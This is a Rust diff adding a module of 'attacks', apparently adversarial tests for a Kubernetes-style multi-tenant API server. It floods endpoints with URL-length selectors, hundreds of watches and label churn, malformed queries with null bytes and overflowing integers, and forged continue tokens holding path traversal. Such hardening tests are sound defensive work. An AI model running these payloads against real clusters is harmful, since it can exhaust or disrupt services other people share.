@@ -1,0 +1,173 @@
+//! Queries that cost more than they say.
+
+use base64::Engine;
+use base64::prelude::BASE64_URL_SAFE_NO_PAD;
+use serde_json::json;
+
+use super::stock::{Findings, lay_in, nothing, uid};
+use crate::attack::Attack;
+use crate::door::{Ask, Windows};
+use crate::field::Field;
+
+/// Requests at a time.
+const LANES: usize = 8;
+/// Bytes of a selector: URLs of 64 KB are taken by most servers.
+const SELECTOR: usize = 60_000;
+
+/// These attacks.
+pub fn all() -> Vec<Attack> {
+    vec![
+        Attack::new("long-selectors", "label selectors as long as a URL, on lists and 200 watches", |f| {
+            Box::pin(long_selectors(f))
+        }),
+        Attack::new("label-churn", "labels that enter and leave the selectors of 400 watches", |f| {
+            Box::pin(label_churn(f))
+        }),
+        Attack::new("bad-queries", "unknown fields, huge queries, parameters a thousand times", |f| {
+            Box::pin(bad_queries(f))
+        }),
+        Attack::new("watch-storm", "watches from revisions that are gone, to come, or none", |f| {
+            Box::pin(watch_storm(f))
+        }),
+        Attack::new("watch-lists", "watches that want 8 MB of initial events and leave", |f| {
+            Box::pin(watch_lists(f))
+        }),
+        Attack::new("forged-continue", "continue tokens of the tenant's own making", |f| {
+            Box::pin(forged_continue(f))
+        }),
+    ]
+}
+
+async fn long_selectors(field: Field) -> Findings {
+    lay_in(&field, 500, 10).await?;
+    let terms: Vec<String> = (0..SELECTOR / 9).map(|at| format!("!k{at}")).collect();
+    let values: Vec<String> = (0..SELECTOR / 7).map(|at| format!("v{at}")).collect();
+    let selectors = [terms.join(","), format!("k%20notin%20({})", values.join(","))];
+    let selectors = selectors.map(|text| text.chars().take(SELECTOR).collect::<String>());
+    let paths = selectors.map(|selector| format!("{}?labelSelector={selector}", field.tenant.requests()));
+    let watches =
+        open_watches(&field, 200, paths.iter().map(|path| format!("{path}&watch=1")).collect()).await?;
+    churn(&field, move |_, round| Ask::get(&paths[round % paths.len()])).await;
+    drop(watches);
+    nothing()
+}
+
+async fn label_churn(field: Field) -> Findings {
+    lay_in(&field, LANES, 10).await?;
+    let path = |at| format!("{}?watch=1&labelSelector=in%3Dr{at}", field.tenant.requests());
+    let watches = open_watches(&field, 400, (0..4).map(path).collect()).await?;
+    churn(&field, |_, _| Ask::get("/apis")).await;
+    drop(watches);
+    nothing()
+}
+
+/// Half of the lanes write labels, the others ask.
+async fn churn(field: &Field, ask: impl Fn(usize, usize) -> Ask + Send + Sync + 'static) {
+    let requests = field.tenant.requests();
+    field
+        .ask_storm(LANES, move |lane, round| {
+            if lane % 2 == 0 {
+                return ask(lane, round);
+            }
+            let labels = json!({"metadata": {"labels": {"in": format!("r{}", round % 4)}}});
+            Ask::merge(format!("{requests}/{}", uid(lane)), &labels)
+        })
+        .await;
+}
+
+/// Opens so many watches that are read; they end when what is returned is dropped.
+async fn open_watches(
+    field: &Field,
+    count: usize,
+    paths: Vec<String>,
+) -> anyhow::Result<tokio::task::JoinSet<()>> {
+    let mut watches = tokio::task::JoinSet::new();
+    let mut line = field.line().await?;
+    for at in 0..count {
+        if at % 50 == 0 {
+            line = field.line_of(field.tenant.account(), Windows::USUAL).await?;
+        }
+        let (field, line, ask) = (field.clone(), line.clone(), Ask::get(&paths[at % paths.len()]));
+        watches.spawn(async move {
+            let answer = line.ask(&ask).await;
+            field.note(&answer);
+        });
+    }
+    Ok(watches)
+}
+
+async fn bad_queries(field: Field) -> Findings {
+    let path = field.tenant.requests();
+    let long = "x".repeat(SELECTOR);
+    let unknown: Vec<String> = (0..3_000).map(|at| format!("spec.f{at}%3Dv")).collect();
+    let queries = [
+        format!("fieldSelector={}", unknown.join(",")),
+        format!("fieldSelector={long}"),
+        format!("labelSelector={}", "a%20in%20((((".repeat(2_000)),
+        format!("labelSelector={}", "%F0%9F%98%80,".repeat(4_000)),
+        format!("fieldManager={long}"),
+        vec!["limit=1"; 5_000].join("&"),
+        "resourceVersion=99999999999999999999999".to_owned(),
+        "limit=-9223372036854775809&timeoutSeconds=1e400".to_owned(),
+        format!("{}=1", "%00".repeat(10_000)),
+    ];
+    field
+        .ask_storm(LANES, move |_, round| Ask::get(format!("{path}?{}", queries[round % queries.len()])))
+        .await;
+    nothing()
+}
+
+async fn watch_storm(field: Field) -> Findings {
+    lay_in(&field, 10, 10).await?;
+    let path = field.tenant.requests();
+    let from = ["1", "999999999999", "junk", "-1", "0", "18446744073709551615"];
+    field
+        .ask_storm(32, move |_, round| {
+            Ask::get(format!("{path}?watch=1&timeoutSeconds=1&resourceVersion={}", from[round % from.len()]))
+        })
+        .await;
+    nothing()
+}
+
+async fn watch_lists(field: Field) -> Findings {
+    lay_in(&field, 200, 40_000).await?;
+    let each = field.clone();
+    let query = "watch=1&sendInitialEvents=true&resourceVersionMatch=NotOlderThan&allowWatchBookmarks=true";
+    field
+        .storm(16, move |_, _| {
+            let field = each.clone();
+            async move {
+                let ask = Ask::get(format!("{}?{query}", field.tenant.requests()));
+                let answer = field.line().await?.send(&ask).await?;
+                field.count(answer.status().as_str());
+                Ok(())
+            }
+        })
+        .await;
+    nothing()
+}
+
+async fn forged_continue(field: Field) -> Findings {
+    lay_in(&field, 10, 10).await?;
+    let path = field.tenant.requests();
+    let token = |rv: i64, start: &str| {
+        let text = json!({"v": "meta.k8s.io/v1", "rv": rv, "start": start}).to_string();
+        BASE64_URL_SAFE_NO_PAD.encode(text)
+    };
+    let tokens = [
+        token(-1, "../../observer/x\0"),
+        token(i64::MAX, "x\0"),
+        token(1, "\0"),
+        token(0, &"y".repeat(40_000)),
+        token(-2, "x\0"),
+        "x".repeat(50_000),
+        "%FF%FE".to_owned(),
+        BASE64_URL_SAFE_NO_PAD.encode("[".repeat(30_000)),
+    ];
+    field
+        .ask_storm(LANES, move |_, n| {
+            Ask::get(format!("{path}?limit=1&continue={}", tokens[n % tokens.len()]))
+        })
+        .await;
+    nothing()
+}
